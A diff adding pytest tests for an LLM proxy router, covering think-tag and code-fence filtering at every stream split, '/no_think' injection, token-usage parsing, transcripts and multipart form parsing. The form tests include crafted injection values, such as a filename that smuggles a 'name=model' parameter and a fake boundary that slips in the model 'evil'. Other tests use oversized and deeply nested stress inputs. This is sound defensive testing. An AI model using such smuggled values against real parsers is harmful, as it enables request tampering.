+    data = b"".join(stream_of("Hello", " <b>"))[:-2] + end
+    model = stage().plays(stream_answer([data]))
+    assert ask(shared(), model, stream=True).content.rstrip() == data.rstrip()
+
+
+# --- long events, events of several lines ---------------------------------------------
+
+
+def test_long_event_before_the_first_answer_freezes_nobody() -> None:
+    long = b"data: " + b"x" * (6 << 20) + b"\n\n"
+    steps = stream_answer([long, event(ENDED)])
+    with Upstream(lambda r: steps) as one, Upstream() as two, both(one.url, two.url) as router:
+        got = ask(router, "pair", stream=True)
+    assert got.content == long + event(ENDED)
+
+
+def test_only_the_long_event_goes_unfiltered() -> None:
+    long = event({"image": "x" * (5 << 20)})
+    said = {"choices": [{"index": 0, "delta": {"content": "<think>a</think>b"}}]}
+    model = stage().plays(stream_answer([long, event(said), event(ENDED)]))
+    assert ask(shared(), model, stream=True).text == "b"
+
+
+def test_event_of_several_lines_stays_one() -> None:
+    lines = (
+        b'event: message\nid: 7\ndata: {"choices":[{"index":0,\n'
+        b'data: "delta":{"content":"<think>a</think>b"}}]}\n\n'
+    )
+    got = ask(shared(), stage().plays(stream_answer([lines, event(ENDED)])), stream=True)
+    start, _, rest = got.content.partition(b"\n\n")
+    assert start.startswith(b"event: message\nid: 7\ndata: {") and start.count(b"\n") == 2
+    assert b'"content":"b"' in start and rest == event(ENDED)
+
+
+# ======================================================================================
+# 6  Text filters
+# ======================================================================================
+# A new filter gets a table of cases here, at every split, and one test end to end.
+
+THOUGHTS = [
+    # what the model says, what is seen, what was thought
+    ("<think>a</think>b", "b", "a"),
+    ("<think>a</think>\n\n  b", "b", "a"),
+    ("\n<think>a</think>\n\nb", "\nb", "a"),
+    ("b <think>a</think> c", "b  c", "a"),
+    ("b\n<think>a</think>\n\nc\n", "b\n\n\nc\n", "a"),
+    ("<think>a</think>\n<think>b</think>\nc", "c", "ab"),
+    ("<think>never closed", "", "never closed"),
+    ("<thinking_hard>a</thinking_hard>", "<thinking_hard>a</thinking_hard>", ""),
+    ("a < b <thin", "a < b <thin", ""),
+    ("<think>a < b </thin </think>c", "c", "a < b </thin "),
+    ("<<think>a</think>b", "<b", "a"),
+    ("<think><think>a</think>b", "b", "<think>a"),
+    ("code:\n  if a:\n\tb\n", "code:\n  if a:\n\tb\n", ""),
+    ("", "", ""),
+]
+
+
+@pytest.mark.parametrize("text, visible, thought", THOUGHTS)
+def test_think_filter_at_every_split(text: str, visible: str, thought: str) -> None:
+    rules = smolrouter.FilterRules(think=True)
+    for pieces in every_split(text) if text else [[""]]:
+        text_filter = smolrouter.TextFilter(rules)
+        parts = [text_filter.feed(piece) for piece in pieces]
+        parts.append(text_filter.feed("", last=True))
+        assert "".join(part[0] for part in parts) == visible
+        assert "".join(part[1] for part in parts) == thought
+    assert smolrouter.filter_text(text, rules) == (visible, thought)
+
+
+def test_bare_close_ends_a_block_from_the_prompt() -> None:
+    rules = smolrouter.FilterRules(think=True)
+    assert smolrouter.filter_text("hm</think>\n\nyes", rules) == ("yes", "hm")
+    late = "yes <think>a</think> b </think> c"
+    assert smolrouter.filter_text(late, rules) == ("yes  b </think> c", "a")
+
+
+FENCES = [
+    ('```json\n{"a": 1}\n```', '{"a": 1}\n'),
+    ('Here:\n```json\n{"a":\n  1}\n```\nDone.', 'Here:\n{"a":\n  1}\nDone.'),
+    ("  ```JSON \r\n[]\r\n  ``` \r\nx", "[]\r\nx"),
+    ("```python\nx = 1\n```\n", "```python\nx = 1\n```\n"),
+    ("```\nplain\n```\n", "```\nplain\n```\n"),
+    ("```python\n```json\n```\n[]", "```python\n```json\n```\n[]"),
+    ("inline ```json\n[]\n```", "inline ```json\n[]\n```"),
+    ("```json\n[1,\n", "[1,\n"),
+    ("a ` b `` c ``` d", "a ` b `` c ``` d"),
+]
+
+
+@pytest.mark.parametrize("text, visible", FENCES)
+def test_fence_filter_at_every_split(text: str, visible: str) -> None:
+    rules = smolrouter.FilterRules(fences=True)
+    for pieces in every_split(text):
+        text_filter = smolrouter.TextFilter(rules)
+        parts = [text_filter.feed(piece)[0] for piece in pieces]
+        assert "".join([*parts, text_filter.feed("", last=True)[0]]) == visible
+
+
+def test_a_hundred_thousand_tags_take_linear_time() -> None:
+    rules = smolrouter.FilterRules(think=True)
+    for text in ("<think>" * 100_000, "<think" * 100_000, "<" * 500_000):
+        smolrouter.filter_text(text, rules)
+
+
+@fuzz(lambda st: {"bits": pieces_of(st, TEXT_BITS, 16), "fences": st.booleans()})
+def test_fuzz_filters(bits: list[str], fences: bool) -> None:
+    """However a text is split, what is seen and what was thought are the same."""
+    text, rules = "".join(bits), smolrouter.FilterRules(think=True, fences=fences)
+    seen = set()
+    for pieces in (bits, [text], list(text)):
+        feed = smolrouter.TextFilter(rules).feed
+        said = [*(feed(piece) for piece in pieces), feed("", last=True)]
+        seen.add(("".join(a for a, _ in said), "".join(b for _, b in said)))
+    assert len(seen) == 1
+    ((visible, thought),) = seen
+    assert len(visible) + len(thought) <= len(text)
+    assert fences or "<think>" in text or (visible, thought) == (text, "")
+
+
+# --- thinking, end to end -------------------------------------------------------------
+
+THINKING = ("<think>", "hidden\n", "</thi", "nk>", "\n\n", "Hé", " a < b <", "b> c")
+VISIBLE = "Hé a < b <b> c"
+
+
+@pytest.mark.parametrize("path", [CHAT, "/api/chat"])
+@pytest.mark.parametrize("escape", [False, True])
+def test_thinking_at_every_split_of_the_stream(path: str, escape: bool) -> None:
+    data = b"".join(stream_of(*THINKING, escape=escape))
+    document = {**ASKS[path], "stream": True}
+
+    def split(at: int) -> tuple[str, bytes]:
+        pieces = [s for piece in cut(data, at) for s in (piece, 0.002)]
+        model = stage().plays(stream_answer(pieces))
+        got = request(shared().port, "POST", path, {**document, "model": model})
+        return got.text, got.content if path == CHAT else b""
+
+    seen = at_once(split, range(1, len(data), 1 if path == CHAT else 7))
+    assert {text for text, _ in seen} == {VISIBLE}
+    assert len({content for _, content in seen}) == 1
+
+
+def test_thinking_at_every_split_of_the_bytes_on_the_wire() -> None:
+    data = b"".join(s for s in sse_answer(stream_of(*THINKING)) if isinstance(s, bytes))
+
+    def split(at: int) -> str:
+        model = stage().plays([data[:at], 0.002, data[at:]])
+        return ask(shared(), model, stream=True).text
+
+    assert set(at_once(split, range(1, len(data), 2))) == {VISIBLE}
+
+
+def test_thinking_split_into_deltas_at_every_place() -> None:
+    text = "<think>hidden</think>\nshown </think_> <thinking_hard> <b>"
+    shown = "shown </think_> <thinking_hard> <b>"
+
+    def split(*at: int) -> str:
+        model = stage().plays(sse_answer(stream_of(*(p.decode() for p in cut(text.encode(), *at)))))
+        return ask(shared(), model, stream=True).text
+
+    twice = [(a, b) for a in range(1, 24) for b in range(a, 26, 3)]
+    assert set(at_once(split, range(1, len(text)))) == {shown}
+    assert set(at_once(split, *zip(*twice, strict=True))) == {shown}
+    assert split(*range(1, len(text))) == shown
+
+
+def test_thinking_split_into_deltas_after_plain_text() -> None:
+    text = "a <think>hidden</think> b <thin"
+
+    def split(*at: int) -> str:
+        pieces = ["Hi ", *(p.decode() for p in cut(text.encode(), *at))]
+        model = stage().plays(sse_answer(stream_of(*pieces)))
+        return ask(shared(), model, stream=True).text
+
+    everywhere = range(1, len(text))
+    assert set(at_once(split, everywhere)) == {split(*everywhere)} == {"Hi a  b <thin"}
+
+
+WHOLE = {
+    "<think>hidden</think>\n\nshown": "shown",
+    "shown <think>hidden</think> too": "shown  too",
+    "hidden</think>\nshown": "shown",
+    "shown <think>hidden": "shown ",
+    "<think>a</think>shown<think>b</think>": "shown",
+    "  keep   the\n\n  white\tspace  ": "  keep   the\n\n  white\tspace  ",
+    "<think>a</think>```\n  code\n\n    more\n```\n": "```\n  code\n\n    more\n```\n",
+    "<thinking_hard>shown</thinking_hard>": "<thinking_hard>shown</thinking_hard>",
+}
+
+
+@pytest.mark.parametrize("said", WHOLE)
+def test_thinking_in_a_whole_answer(said: str) -> None:
+    for path, kind in ((CHAT, "chat"), ("/v1/completions", "text")):
+        model = stage().plays(json_answer(completion({}, said, kind)))
+        got = request(shared().port, "POST", path, {**ASKS[path], "model": model})
+        assert got.text == WHOLE[said]
+
+
+@pytest.mark.parametrize("path", ["/v1/completions", "/api/generate"])
+def test_thinking_in_streamed_text(path: str) -> None:
+    texts = [{"choices": [{"index": 0, "text": t}]} for t in THINKING]
+    model = stage().plays(sse_answer([*texts, "[DONE]"]))
+    got = request(shared().port, "POST", path, {"model": model, "prompt": "hi", "stream": True})
+    assert got.text == VISIBLE
+
+
+def test_thinking_in_very_long_events() -> None:
+    long = "x" * 1_000_000
+    texts = ("<think>" + long, long + "</think>", "\n" + long, long + "<thi", "ng>")
+    model = stage().plays(sse_answer(stream_of(*texts)))
+    assert ask(shared(), model, stream=True).text == long + long + "<thing>"
+    unclosed = "<think>" * 100_000 + "<" * 100_000
+    for said in (unclosed, "shown" + unclosed):
+        model = stage().plays(sse_answer(stream_of(said)))
+        assert ask(shared(), model, stream=True).text == said.partition("<")[0]
+        model = stage().plays(json_answer(completion({}, said)))
+        assert ask(shared(), model).text == said.partition("<")[0]
+
+
+def test_thinking_elsewhere_stays() -> None:
+    said = "<think>kept</think>"
+    call = {"name": "f", "arguments": dumps({"a": said}).decode()}
+    delta = {"tool_calls": [{"index": 0, "function": call}], "reasoning_content": said}
+    events = [event({"choices": [{"index": 0, "delta": delta}]}), event("[DONE]")]
+    got = ask(shared(), stage().plays(sse_answer(events)), stream=True)
+    assert got.content == b"".join(events)
+    name = stage().plays(answer(said.encode(), kind="text/html"))
+    assert request(shared().port, "GET", f"/v1/{name}").content == said.encode()
+
+
+def test_thinking_goes_however_deep_the_rest_is() -> None:
+    said = dumps(completion({}, "<think>secret</think>ok"))[:-1]
+    said += b',"x":' + b"[" * 250 + b"]" * 250 + b"}"
+    name = stage().plays(answer(said, kind="application/json"))
+    for path in (CHAT, "/api/chat"):
+        got = request(shared().port, "POST", path, {**asking(path, name, False)})
+        assert got.status == 200 and b"secret" not in got.content and b"ok" in got.content
+
+
+def test_content_beside_the_answer_does_not_begin_it() -> None:
+    found = {"search_results": [{"content": "found"}]}
+    for first in (
+        {"choices": [{"index": 0, "delta": {"content": ""}}], **found},
+        {"choices": [{"index": 0, "delta": {"reasoning": {"content": "hm"}}}]},
+    ):
+        events = [first, *deltas("<think>", "no", "</think>", "\n\nyes"), "[DONE]"]
+        got = ask(shared(), stage().plays(sse_answer([event(e) for e in events])), stream=True)
+        assert got.text == "yes"
+
+
+def test_each_choice_has_its_own_state() -> None:
+    first = deltas("<think>", "no", "</think>", "one", " more")
+    second = deltas("two", " <th", "ink>no", "</think>", "!", index=1)
+    both = [event(e) for pair in zip(first, second, strict=True) for e in pair]
+    got = ask(shared(), stage().plays(sse_answer([*both, "[DONE]"])), stream=True)
+    texts = {0: "", 1: ""}
+    for document in got.documents:
+        for choice in document["choices"]:
+            texts[choice["index"]] += choice["delta"].get("content", "")
+    assert texts == {0: "one more", 1: "two !"}
+
+
+def test_many_choices_in_one_document() -> None:
+    message = {"message": {"content": "<think>no</think>yes"}}
+    delta = {"delta": {"content": "<think>no</think>yes"}}
+    choices = [{"index": n, **message} for n in range(5000)]
+    events = [{"choices": [{"index": n, **delta} for n in range(5000)]}, "[DONE]"]
+    with Router({"DEFAULT_UPSTREAM": stage().url}) as router:  # it may freeze
+        model = stage().plays(json_answer({"choices": choices}))
+        assert ask(router, model).text == "yes" * 5000
+        model = stage().plays(sse_answer(events))
+        assert ask(router, model, stream=True).text == "yes" * 5000
+
+
+# --- what no filter changes -----------------------------------------------------------
+
+
+def test_events_that_the_filter_does_not_change_are_not_changed() -> None:
+    odd = [
+        b": a comment\n\n",
+        b'event: x\nid: 7\nretry: 10\ndata: {"a":  1.0e0}\n\n',
+        b'data:{"choices":[{"delta":{"content":"\\u0048i \\/ \xc3"},"index":0}]}\n\n',
+        b'data: {"choices" : [ {"index":0, "delta":{ "content":"a < b" } } ] }\n\n',
+        b'data: not JSON\n\n', b'data: [1, 2]\ndata: null\n\n', b'data: [DONE]\n\n',
+    ]  # fmt: skip
+    model = stage().plays(sse_answer(odd))
+    assert ask(shared(), model, stream=True).content == b"".join(odd)
+    thought = stream_of("<think>", "hidden", "</think>")[:4]
+    model = stage().plays(sse_answer([*thought, *odd]))
+    got = ask(shared(), model, stream=True).content
+    assert got.endswith(b"".join(odd))
+    assert b"hidden" not in got and got.startswith(thought[0])
+
+
+@pytest.mark.parametrize("newline", [b"\n", b"\r\n", b"\r"])
+def test_stream_without_thinking_is_identical(newline: bytes) -> None:
+    data = b"".join(stream_of("Hello", " <b>wor", "ld</b> \\u003c")).replace(b"\n", newline)
+    model = stage().plays(stream_answer(cut(data, 9, 99)))
+    assert ask(shared(), model, stream=True).content == data
+
+
+@pytest.mark.parametrize("content", [
+    b'{"choices":[{"index":0,"message":{"content":"a < b  \\u00e9 \\u003cb>"}}] }\n',
+    b'{ "choices" : [], "n": 1.0, "big": 123456789012345678901234567890 }',
+    b'not JSON at all <b>', b'[1,2,3]', b'null', b'\xff\xfe<',
+])  # fmt: skip
+def test_answer_without_thinking_is_identical(content: bytes) -> None:
+    model = stage().plays(answer(content, kind="application/json"))
+    got = ask(shared(), model)
+    assert (got.status, got.content) == (200, content)
+
+
+def test_an_emptied_event_that_carries_more_stays() -> None:
+    carrier = {"index": 0, "delta": {"content": "<think>no"}, "finish_reason": "length"}
+    call = {"content": "</think>", "tool_calls": [{"index": 0, "id": "call-1"}]}
+    events = [
+        {"choices": [carrier], "usage": {"total_tokens": 3}},
+        {"choices": [{"index": 0, "delta": call}]},
+        "[DONE]",
+    ]
+    got = ask(shared(), stage().plays(sse_answer(events)), stream=True)
+    assert got.text == ""
+    first, second = got.documents
+    assert first["choices"][0]["finish_reason"] == "length"
+    assert first["usage"] == {"total_tokens": 3}
+    assert second["choices"][0]["delta"]["tool_calls"] == call["tool_calls"]
+
+
+# --- fences, and filters that are off -------------------------------------------------
+
+FENCED = 'Here:\n```json\n{"a": "```",\n  "b": 1}\n```\nand\n```python\nx\n```\n'
+UNFENCED = 'Here:\n{"a": "```",\n  "b": 1}\nand\n```python\nx\n```\n'
+
+
+def test_fences_at_every_split() -> None:
+    router = filtering(STRIP_JSON_MARKDOWN=1)
+
+    def split(*at: int) -> str:
+        texts = [p.decode() for p in cut(FENCED.encode(), *at)]
+        model = stage().plays(sse_answer(stream_of(*texts)))
+        return ask(router, model, stream=True).text
+
+    assert set(at_once(split, range(1, len(FENCED)))) == {UNFENCED}
+    assert split(*range(1, len(FENCED))) == UNFENCED
+    whole = stage().plays(json_answer(completion({}, FENCED)))
+    assert ask(router, whole).text == UNFENCED
+    assert ask(shared(), whole).text == FENCED
+
+
+def test_think_stripping_can_be_off() -> None:
+    router = filtering(STRIP_THINKING="no")
+    data = b"".join(stream_of(*THINKING))
+    model = stage().plays(stream_answer([data]))
+    assert ask(router, model, stream=True).content == data
+
+
+# ======================================================================================
+# 7  Protocols
+# ======================================================================================
+# A new endpoint gets a case in each table that it belongs to: the user's words, the token
+# counts, the conversation.
+
+# --- the user's words -----------------------------------------------------------------
+
+NO_THINK = [
+    ("/v1/chat/completions", {"messages": [{"role": "user", "content": "a"}, {"role": "x"}]},
+     {("messages", 0, "content"): "a /no_think"}),
+    ("/v1/chat/completions",
+     {"messages": [{"role": "user", "content": [{"text": "a"}, {"image_url": {}}]}]},
+     {("messages", 0, "content", 0, "text"): "a /no_think"}),
+    ("/v1/completions", {"prompt": "a"}, {("prompt",): "a /no_think"}),
+    ("/v1/responses", {"input": "a"}, {("input",): "a /no_think"}),
+    ("/v1/responses", {"input": [{"role": "user", "content": "a"}]},
+     {("input", 0, "content"): "a /no_think"}),
+    ("/v1/images/generations", {"prompt": "a cat"}, {}),
+    ("/v1/audio/speech", {"input": "a", "instructions": "calm"}, {}),
+    ("/v1/embeddings", {"input": "a"}, {}),
+    ("/v1/chat/completions", {"messages": [{"role": "system", "content": "a"}]}, {}),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("path, doc, edits", NO_THINK)
+def test_no_think_goes_to_the_user_s_words(path: str, doc: Any, edits: Any) -> None:
+    assert smolrouter.no_think_edit(path, doc) == edits
+
+
+def test_no_think_is_appended_to_the_last_user_message() -> None:
+    router = filtering(DISABLE_THINKING="true")
+    user = {"role": "user", "content": "one"}
+    parts = [{"type": "text", "text": "two"}, {"type": "image_url", "image_url": {}}]
+    ends = {"role": "assistant", "content": "three"}
+    name = stage().plays(FINE)
+    for messages in ([user, ends, {"role": "user", "content": parts}, ends], [user]):
+        request(router.port, "POST", CHAT, {"model": name, "messages": messages})
+    request(router.port, "POST", "/v1/completions", {"model": name, "prompt": "four"})
+    first, second, third = (received.json for received in stage().heard(name))
+    told = [{**parts[0], "text": "two /no_think"}, parts[1]]
+    assert first["messages"] == [user, ends, {"role": "user", "content": told}, ends]
+    assert second["messages"] == [{"role": "user", "content": "one /no_think"}]
+    assert third["prompt"] == "four /no_think"
+
+
+def test_no_think_looks_at_parts_alone() -> None:
+    """What is nested deeper is no text of a message; each level would be one more reading."""
+    deep: Any = [[]] * 90_000
+    for _ in range(180):
+        deep = {"text": deep}
+    router = router_for({"DEFAULT_UPSTREAM": bench().url, "DISABLE_THINKING": "true"})
+    model = bench().plays(json_answer(completion({}, ANSWER)))
+    body = {"model": model, "messages": [*ASKED, {"role": "user", "content": deep}]}
+    assert request(router.port, "POST", CHAT, body, patience=PATIENCE).status == 200
+    assert latest().json["messages"][0]["content"].endswith(" /no_think")
+
+
+# --- token counts ---------------------------------------------------------------------
+
+USAGE_CASES: list[tuple[Any, tuple[int | None, int | None, int | None]]] = [
+    # what an upstream said; prompt, completion, cached
+    (b"", (None, None, None)),
+    ({"usage": None}, (None, None, None)),
+    ({"usage": {"prompt_tokens": 9, "completion_tokens": 12, "total_tokens": 21}}, (9, 12, None)),
+    ({"usage": {"prompt_tokens": 9, "completion_tokens": 12,
+                "prompt_tokens_details": {"cached_tokens": 4}}}, (9, 12, 4)),
+    ({"usage": {"prompt_tokens": 9, "total_tokens": 9}}, (9, None, None)),
+    ({"usage": {"total_tokens": 9}}, (9, None, None)),
+    ({"usage": {"prompt_tokens": 5, "completion_tokens": 6}, "more": "x" * 40_000}, (5, 6, None)),
+    ({"data": [{"embedding": [0.25] * 9000}], "usage": {"prompt_tokens": 5}}, (5, None, None)),
+    ({"done": True, "context": [1] * 9000, "prompt_eval_count": 26, "eval_count": 298,
+      "prompt_eval_duration": 130079000}, (26, 298, None)),
+    ({"choices": [], "timings": {"cache_n": 10, "prompt_n": 1, "predicted_n": 7,
+                                 "predicted_ms": 3.5}}, (11, 7, 10)),
+    ({"timings": {"prompt_n": 1, "predicted_n": 7},
+      "usage": {"prompt_tokens": 12, "completion_tokens": 7}}, (12, 7, None)),
+    ({"object": "response", "usage": {
+        "input_tokens": 30, "input_tokens_details": {"cached_tokens": 20}, "output_tokens": 5}},
+     (30, 5, 20)),
+    ({"type": "message", "usage": {"input_tokens": 25, "cache_read_input_tokens": 5,
+                                   "cache_creation_input_tokens": 2, "output_tokens": 15}},
+     (32, 15, 5)),
+    (b"".join(map(event, [
+        {"type": "message_start", "message": {"usage": {"input_tokens": 25, "output_tokens": 1}}},
+        *[{"type": "content_block_delta", "delta": {"text": "word " * 20}}] * 300,
+        {"type": "message_delta", "usage": {"output_tokens": 15}}, {"type": "message_stop"}])),
+     (25, 15, None)),
+    (b"".join(CLAUDE_EVENTS), (9, 4, None)),
+    (b"".join(map(event, [
+        *[{"choices": [], "usage": {"prompt_tokens": 7, "completion_tokens": n}} for n in range(5)],
+        "[DONE]"])), (7, 4, None)),
+    (b"".join(map(event, [*[{**piece("x"), "usage": None}] * 400, ending(), "[DONE]"])),
+     (None, None, None)),
+    ({"choices": [{"message": {"content": '{"prompt_tokens": 5, "usage": {"x": 1}}'}}]},
+     (None, None, None)),
+    ({"usage": {"prompt_tokens": 10**40, "completion_tokens": 1.5}}, (None, None, None)),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("said, wanted", USAGE_CASES)
+def test_usage_of_every_server(said: Any, wanted: Any) -> None:
+    assert smolrouter.read_usage(said if isinstance(said, bytes) else dumps(said)) == wanted
+    if isinstance(said, dict):
+        assert smolrouter.read_usage(json.dumps(said, indent=1).encode()) == wanted
+
+
+# --- conversations --------------------------------------------------------------------
+
+
+def said_in(document: Any, path: str = "/v1/chat/completions", asked: Any = None) -> list[Any]:
+    """The transcript's messages as role, content, thinking, calls."""
+    said = document if isinstance(document, bytes) else dumps(document)
+    talk = smolrouter.read_transcript(path, dumps(asked or {}), said)
+    return [
+        (
+            m["role"],
+            m["content"],
+            m["thinking"],
+            [(c["id"], c["name"], c["arguments"]) for c in m["tool_calls"]],
+        )
+        for m in talk
+    ]
+
+
+CALL = {"id": "c1", "type": "function", "function": {"name": "f", "arguments": '{"a":1}'}}
+TALKS: list[tuple[str, str, Any, Any, list[Any]]] = [
+    # what, path, request, answer, transcript
+    ("whole", "/v1/chat/completions", chat("m", "hi"), completion({}, "Hello"),
+     [("user", "hi", "", []), ("assistant", "Hello", "", [])]),
+    ("streamed", "/v1/chat/completions", {}, [
+        {"choices": [{"index": 0, "delta": {"role": "assistant", "content": ""}}]},
+        piece("<thi"), piece("nk>hm</think>a"), piece("b"),
+        {"choices": [{"index": 0, "delta": {"reasoning_content": "more"}}]}, ending(), "[DONE]"],
+     [("assistant", "ab", "morehm", [])]),
+    ("two choices", "/v1/chat/completions", {}, [
+        {"choices": [{"index": i, "delta": {"content": t}}]} for i, t in ((1, "x"), (0, "a"),
+                                                                          (1, "y"), (0, "b"))],
+     [("assistant", "ab", "", []), ("assistant", "xy", "", [])]),
+    ("calls in pieces", "/v1/chat/completions", {}, [
+        {"choices": [{"index": 0, "delta": {"tool_calls": [
+            {"index": 0, "id": "c1", "function": {"name": "f", "arguments": '{"a'}},
+            {"index": 1, "id": "c2", "function": {"name": "g", "arguments": ""}}]}}]},
+        {"choices": [{"index": 0, "delta": {"tool_calls": [
+            {"index": 0, "function": {"arguments": '":1}'}}]}}]}],
+     [("assistant", "", "", [("c1", "f", '{"a":1}'), ("c2", "g", "")])]),
+    ("a tool's result", "/v1/chat/completions", {"messages": [
+        {"role": "assistant", "content": None, "tool_calls": [CALL]},
+        {"role": "tool", "tool_call_id": "c1", "content": "42"}]}, b"",
+     [("assistant", "", "", [("c1", "f", '{"a":1}')]), ("tool", "42", "", [])]),
+    ("completions", "/v1/completions", {"prompt": ["one", "two"]}, completion({}, "text", "text"),
+     [("user", "one", "", []), ("user", "two", "", []), ("assistant", "text", "", [])]),
+    ("chat lines", "/api/chat", {"messages": [{"role": "user", "content": "q"}]}, b"".join(
+        dumps(line) + b"\n" for line in (
+            {"message": {"role": "assistant", "content": "a", "thinking": "t"}},
+            {"message": {"content": "b", "tool_calls": [
+                {"function": {"name": "f", "arguments": {"x": 1}}}]}}, {"done": True})),
+     [("user", "q", "", []), ("assistant", "ab", "t", [(None, "f", '{"x":1}')])]),
+    ("generate", "/api/generate", {"system": "s", "prompt": "p"},
+     {"response": "r", "thinking": "t", "done": True},
+     [("system", "s", "", []), ("user", "p", "", []), ("assistant", "r", "t", [])]),
+    ("messages", "/v1/messages", {"system": [{"type": "text", "text": "s"}], "messages": [
+        {"role": "user", "content": [
+            {"type": "tool_result", "tool_use_id": "t1",
+             "content": [{"type": "text", "text": "9"}]}]}]},
+     {"type": "message", "role": "assistant", "content": [
+         {"type": "thinking", "thinking": "t"}, {"type": "text", "text": "x"},
+         {"type": "tool_use", "id": "t2", "name": "g", "input": {"y": 2}}]},
+     [("system", "s", "", []), ("tool", "9", "", []),
+      ("assistant", "x", "t", [("t2", "g", '{"y":2}')])]),
+    ("streamed messages", "/v1/messages", {}, [
+        {"type": "message_start", "message": {"role": "assistant", "content": []}},
+        {"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}},
+        {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": "ab"}},
+        {"type": "content_block_start", "index": 1,
+         "content_block": {"type": "tool_use", "id": "t1", "name": "g", "input": {}}},
+        {"type": "content_block_delta", "index": 1,
+         "delta": {"type": "input_json_delta", "partial_json": '{"y":'}},
+        {"type": "content_block_delta", "index": 1,
+         "delta": {"type": "input_json_delta", "partial_json": "2}"}}],
+     [("assistant", "ab", "", [("t1", "g", '{"y":2}')])]),
+    ("responses", "/v1/responses", {"instructions": "i", "input": [
+        {"role": "user", "content": [{"type": "input_text", "text": "q"}]},
+        {"type": "function_call", "call_id": "c", "name": "f", "arguments": "{}"},
+        {"type": "function_call_output", "call_id": "c", "output": "1"}]},
+     {"object": "response", "output": [
+         {"type": "reasoning", "summary": [{"type": "summary_text", "text": "t"}]},
+         {"type": "message", "role": "assistant", "content": [
+             {"type": "output_text", "text": "x"}]}]},
+     [("system", "i", "", []), ("user", "q", "", []), ("assistant", "", "", [("c", "f", "{}")]),
+      ("tool", "1", "", []), ("assistant", "x", "t", [])]),
+    ("streamed responses", "/v1/responses", {"input": "q"}, [
+        {"type": "response.created", "response": {"output": []}},
+        {"type": "response.output_text.delta", "delta": "x"},
+        {"type": "response.completed", "response": {"output": [
+            {"type": "message", "content": [{"type": "output_text", "text": "xy"}]}]}}],
+     [("user", "q", "", []), ("assistant", "xy", "", [])]),
+    ("no conversation", "/v1/chat/completions", {}, b"\xff\x00", []),
+    ("odd shapes", "/v1/chat/completions", {"messages": [5, {"role": "user", "content": 7}]},
+     {"choices": [{"index": 0, "message": {"content": {"a": 1}}}]}, None),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("what, path, asked, answer, wanted", TALKS, ids=[t[0] for t in TALKS])
+def test_transcripts(what: str, path: str, asked: Any, answer: Any, wanted: Any) -> None:
+    said = b"".join(map(event, answer)) if isinstance(answer, list) else answer
+    found = said_in(said, path, asked)
+    if what == "two choices":  # in the order in which they began
+        found.sort()
+    assert wanted is None or found == wanted
+
+
+def test_pictures_of_a_transcript() -> None:
+    url = "data:image/png;base64,iVBORw0KGgo="
+    parts = [{"type": "text", "text": "look"}, {"type": "image_url", "image_url": {"url": url}}]
+    asked = [
+        ("/v1/chat/completions", {"messages": [{"role": "user", "content": parts}]}),
+        ("/api/chat", {"messages": [{"role": "user", "content": "look",
+                                     "images": ["iVBORw0KGgo="]}]}),
+        ("/api/generate", {"prompt": "look", "images": ["iVBORw0KGgo="]}),
+        ("/v1/messages", {"messages": [{"role": "user", "content": [
+            {"type": "text", "text": "look"}, {"type": "image", "source": {
+                "type": "base64", "media_type": "image/png", "data": "iVBORw0KGgo="}}]}]}),
+        ("/v1/responses", {"input": [{"role": "user", "content": [
+            {"type": "input_text", "text": "look"}, {"type": "input_image", "image_url": url}]}]}),
+    ]  # fmt: skip
+    for path, document in asked:
+        (message,) = smolrouter.read_transcript(path, dumps(document), b"")
+        assert (message["content"], message["images"]) == ("look", [url]), path
+
+
+# ======================================================================================
+# 8  Dialects
+# ======================================================================================
+# Requests and answers on values; then the official clients in front of every kind of server.
+
+# --- forms ----------------------------------------------------------------------------
+
+NAMED = b'Content-Disposition: form-data; name="model"\r\n\r\n'
+FILE = b'Content-Disposition: form-data; name="file"; filename="%s"\r\n\r\n'
+MODEL_FORMS = {
+    "plain": (b"--XX\r\n" + NAMED + b"m\r\n--XX--\r\n", "m"),
+    "type first": (b"--XX\r\nContent-Type: text/plain\r\n" + NAMED + b"m\r\n--XX--", "m"),
+    "after a file": (b"--XX\r\n" + FILE % b"a" + b"x\r\n--XX\r\n" + NAMED + b"m\r\n--XX--", "m"),
+    "file's name": (b"--XX\r\n" + FILE % b"a; name=model" + b"x\r\n--XX--", ""),
+    "preamble": (b"a -- b\r\n--XX\r\n" + NAMED + b"m\r\n--XX--", "m"),
+    "boundary inside a line": (
+        b"--XX\r\n" + FILE % b"a" + b"say --XX\r\n" + NAMED + b"evil\r\n--XX--", ""),
+    "unquoted, folded case": (
+        b"--XX\r\nCONTENT-DISPOSITION: form-data; NAME=model\r\n\r\nm\r\n--XX--", "m"),
+    "nothing": (b"--XX--\r\n", ""),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("content, model", MODEL_FORMS.values(), ids=MODEL_FORMS.keys())
+@pytest.mark.parametrize("boundary", ["boundary=XX", 'charset=x; boundary="XX"'])
+def test_form_names_its_model(content: bytes, model: str, boundary: str) -> None:
+    ask = smolrouter.read_form(f"multipart/form-data; {boundary}", "/v1/x", "", content)
+    assert (ask.model, ask.content) == (model, content)
+    renamed = smolrouter.encode_span(ask, smolrouter.Rewrite("new"))
+    assert renamed == content.replace(b"\r\n\r\nm\r\n", b"\r\n\r\nnew\r\n")
+
+
+@fuzz(
+    lambda st: {
+        "bits": pieces_of(
+            st,
+            [
+                b"--b",
+                b"\r\n",
+                b"--",
+                b'Content-Disposition: form-data; name="model"',
+                b"\r\n\r\n",
+                b"tiny",
+                b'; filename="',
+                b'"',
+                b"name=model",
+                b"\\",
+                b"content-disposition:",
+            ],
+            20,
+        ),
+        "kind": st.sampled_from(["multipart/form-data; boundary=b", 'x; boundary="b"', "x", ";"]),
+    }
+)
+def test_fuzz_forms(bits: list[bytes], kind: str) -> None:
+    """A form that needs no change is not changed; its model is where it says."""
+    content = b"--b" + b"".join(bits)
+    with contextlib.suppress(smolrouter.MalformedContent):
+        ask_ = smolrouter.read_form(kind, "/v1/x", "", content)
+        same = smolrouter.encode_span(ask_, smolrouter.Rewrite(ask_.model))
+        assert same == content
+        assert content[slice(*ask_.span)].decode("utf-8", "replace") == ask_.model
+
+
+def parse_form(heard: Received) -> dict[str, bytes]:
+    """The parts of a form; the last one of a name counts."""
+    top = f"Content-Type: {heard.get('Content-Type')}\r\n\r\n".encode()
+    parts: Any = email.message_from_bytes(top + heard.content).get_payload()
